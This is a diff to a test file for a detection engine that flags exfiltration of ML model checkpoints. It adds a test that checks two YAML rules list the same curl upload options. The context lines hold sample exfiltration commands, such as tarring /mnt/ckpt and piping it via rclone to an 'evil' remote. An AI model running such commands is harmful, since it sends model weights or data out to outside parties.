@@ -8,7 +8,11 @@
  * request body posted to a model server on the pod's loopback, an rclone pull. The
  * credential reads and uploads beside them still alert.
  */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { parseAllDocuments } from 'yaml';
+import { defaultRulesDir } from '../rule-files.js';
 import { createRuleEngine } from './engine.js';
 import { execEvent, execRuleIds, SHIPPED_RULES } from './exec-events.test-support.js';
 
@@ -116,6 +120,12 @@ describe('the credential reads and uploads beside them still alert', () => {
       sh('tar c /mnt/ckpt | rclone rcat evil:x.tar'),
       sh('rclone serve http /mnt/ckpt --addr :8080'),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
+  it('MLS-EXFIL-036 reads every curl upload option MLS-EXFIL-014 leaves to it (YAML anchors do not cross documents, so the list is written twice)', () => {
+    const docs = parseAllDocuments(readFileSync(join(defaultRulesDir()!, 'mlshield', 'weight-exfil.yaml'), 'utf8')).map((d) => d.toJS() as { id: string; detection: Record<string, Record<string, string[]>> });
+    const uploads = (id: string): string[] => docs.find((d) => d.id === id)!.detection.sel_curl_upload!['attrs.exec.toolWords|startswith|cased']!;
+    expect(uploads('MLS-EXFIL-036')).toEqual(uploads('MLS-EXFIL-014').filter((w) => w.startsWith('curl ')));
   });
 
   it('curl uploads a proxy, a redirect, a tunnel or a second host could carry off (MLS-EXFIL-014), and the loopback ones are escalated (MLS-EXFIL-036)', () => {
